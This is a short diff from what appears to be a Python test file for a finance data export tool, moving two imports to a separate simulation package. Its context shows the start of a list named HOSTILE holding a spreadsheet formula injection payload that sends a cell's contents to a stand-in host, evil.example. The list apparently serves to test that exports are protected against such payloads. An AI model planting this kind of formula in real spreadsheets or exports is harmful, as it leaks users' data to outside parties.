@@ -29,8 +29,8 @@ from retreasure.serving.exports.finance import MANIFEST, FinanceExport, export_f
 from retreasure.serving.exports.writers import write_csv, write_parquet, write_xlsx
 from retreasure.serving.reports import FINANCE, REPORTS, TAX, finance_report
 from retreasure.settings import get_settings
-from retreasure.sim.ledger import books
-from retreasure.sim.model import Truth
+from retreasure_sim.ledger import books
+from retreasure_sim.model import Truth
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
